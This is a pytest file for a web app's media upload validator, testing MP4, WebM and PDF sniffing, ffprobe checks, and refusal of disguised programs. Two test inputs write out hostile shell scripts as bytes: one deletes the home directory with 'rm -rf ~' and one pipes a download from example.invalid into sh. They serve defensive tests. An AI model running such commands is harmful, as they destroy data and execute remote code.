"""Uploads are judged by their content: sniffing, ffprobe, PDF trailer, and store_upload."""
from __future__ import annotations

import io
import os
import shutil
import struct
import subprocess
import sys

import pytest
from flask_babel import force_locale

from ntbase.media.checks import (
    DOCUMENT_KINDS,
    VIDEO_KINDS,
    MediaRejected,
    check_head,
    inspect_file,
    sniff,
)
from ntbase.media.ingest import store_upload
from ntbase.media.samples import ffmpeg_path

MAX = 1024 * 1024


def ffmpeg(*args):
    subprocess.run([ffmpeg_path(), "-hide_banner", "-loglevel", "error", "-nostdin", "-y", *args],
                   check=True, capture_output=True, timeout=120)


def rejected(path, allowed=VIDEO_KINDS | DOCUMENT_KINDS) -> MediaRejected:
    with pytest.raises(MediaRejected) as exc:
        inspect_file(path, allowed)
    return exc.value


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\0\0\2\0" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body


# -- sniffing ------------------------------------------------------------------------------
@pytest.mark.parametrize(("head", "kind"), [
    (ftyp(b"isom", b"isom", b"avc1") + b"\0" * 8, "mp4"),
    (ftyp(b"mp42", b"mp42") + b"\0" * 8, "mp4"),
    (ftyp(b"XXXX", b"XXXX", b"iso6") + b"\0" * 8, "mp4"),   # a known compatible brand is enough
    (ftyp(b"qt  ", b"qt  ") + b"\0" * 8, None),             # QuickTime is not MP4
    (ftyp(b"M4A ", b"M4A ") + b"\0" * 8, None),             # audio only
    (b"\0\0\0\x05ftypisom" + b"\0" * 8, None),              # impossible box size
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
    (b"%PDF-x", None),
    (b"\x7fELF\x02\x01\x01" + b"\0" * 20, "executable"),
    (b"MZ\x90\x00\x03" + b"\0" * 20, "executable"),
    (b"#!/bin/sh\nrm -rf ~\n", "executable"),
    (b"\xcf\xfa\xed\xfe" + b"\0" * 20, "executable"),
    (b"PK\x03\x04" + b"\0" * 20, None),
    (b"<html><script>", None),
])
def test_sniff(head, kind):
    assert sniff(head) == kind


def test_sniff_reads_the_webm_doctype(samples):
    head = samples["webm"].read_bytes()[:4096]
    assert sniff(head) == "webm"
    assert sniff(head.replace(b"webm", b"matr", 1)) is None


# -- real files ----------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["mp4", "webm"])
def test_sample_videos_pass_with_their_duration(samples, kind):
    info = inspect_file(samples[kind])
    assert (info.kind, info.content_type) == (kind, f"video/{kind}")
    assert 2.5 < info.duration_seconds < 3.5
    assert (info.width, info.height) == (320, 180)
    assert info.size == samples[kind].stat().st_size < 300 * 1024


def test_sample_pdf_passes(samples):
    info = inspect_file(samples["pdf"])
    assert (info.kind, info.content_type, info.duration_seconds) == ("pdf", "application/pdf", None)
    assert info.size < 300 * 1024


def test_a_renamed_program_is_refused_as_a_program(tmp_path, app_ctx):
    fake = tmp_path / "lesson1.mp4"
    shutil.copy(sys.executable, fake)
    err = rejected(fake)
    assert err.code == "executable" and err.field == "file"
    with force_locale("en"):
        assert "is a program" in rejected(fake).message
    with force_locale("zh_CN"):
        assert "程序" in rejected(fake).message


def test_a_renamed_script_is_refused(tmp_path):
    script = tmp_path / "video.webm"
    script.write_bytes(b"#!/bin/bash\ncurl http://example.invalid | sh\n")
    assert rejected(script).code == "executable"


def test_unknown_content_is_refused(tmp_path):
    other = tmp_path / "lesson.mp4"
    other.write_bytes(os.urandom(5000))
    assert rejected(other).code == "unknown_type"


def test_a_file_ffprobe_cannot_parse_is_refused(tmp_path):
    # an MP4 signature followed by junk: sniffing says MP4, ffprobe finds no movie
    fake = tmp_path / "fake.mp4"
    fake.write_bytes(ftyp(b"isom", b"isom") + os.urandom(20_000))
    assert sniff(fake.read_bytes()[:100]) == "mp4"
    assert rejected(fake).code == "unreadable"


def test_sound_only_is_refused(tmp_path):
    audio = tmp_path / "sound.mp4"
    ffmpeg("-f", "lavfi", "-i", "sine=duration=1", "-c:a", "aac", "-b:a", "32k", str(audio))
    assert rejected(audio).code == "no_video"


def test_matroska_is_not_webm(tmp_path, samples):
    mkv = tmp_path / "lesson.mkv"
    ffmpeg("-i", str(samples["webm"]), "-c", "copy", "-f", "matroska", str(mkv))
    assert rejected(mkv).code == "unknown_type"


def test_a_codec_browsers_cannot_play_is_refused(tmp_path):
    mjpeg = tmp_path / "mjpeg.mp4"
    ffmpeg("-f", "lavfi", "-i", "testsrc=size=64x64:rate=5:duration=1", "-c:v", "mjpeg", str(mjpeg))
    err = rejected(mjpeg)
    assert err.code == "codec" and "mjpeg" in err.message


def test_a_truncated_pdf_is_refused(tmp_path, samples):
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(samples["pdf"].read_bytes()[:2000])
    assert rejected(cut).code == "damaged_pdf"


def test_the_wrong_kind_for_the_lesson_is_refused(samples):
    assert rejected(samples["pdf"], VIDEO_KINDS).code == "wrong_kind"
    assert rejected(samples["mp4"], DOCUMENT_KINDS).code == "wrong_kind"


def test_empty_is_refused():
    with pytest.raises(MediaRejected) as exc:
        check_head(b"")
    assert exc.value.code == "empty"


# -- store_upload: check first, then store --------------------------------------------------
def test_store_upload_stores_a_checked_video(backend, samples):
    data = samples["mp4"].read_bytes()
    up = store_upload(io.BytesIO(data), backend.storage, max_bytes=MAX, allowed=VIDEO_KINDS)
    assert up.info.kind == "mp4" and up.stored.content_type == "video/mp4"
    assert up.stored.size == len(data)
    assert backend.listing() == [up.stored.key]


def test_store_upload_keeps_nothing_it_refuses(backend, tmp_path):
    spool = tmp_path / "spool"
    spool.mkdir()
    with open(sys.executable, "rb") as program, pytest.raises(MediaRejected) as exc:
        store_upload(program, backend.storage, max_bytes=200 * MAX, spool_dir=str(spool))
    assert exc.value.code == "executable"
    with pytest.raises(MediaRejected) as exc:
        store_upload(io.BytesIO(b"\0" * (MAX + 1)), backend.storage, max_bytes=MAX, spool_dir=str(spool))
    assert exc.value.code == "too_large"
    with pytest.raises(MediaRejected) as exc:
        store_upload(io.BytesIO(b""), backend.storage, max_bytes=MAX, spool_dir=str(spool))
    assert exc.value.code == "empty"
    assert backend.listing() == [] and list(spool.iterdir()) == []


def test_too_large_names_the_limit(app_ctx):
    with force_locale("en"), pytest.raises(MediaRejected) as exc:
        store_upload(io.BytesIO(b"\0" * 3000), None, max_bytes=2048)  # refused before storage is used
    assert "2 KB" in exc.value.message
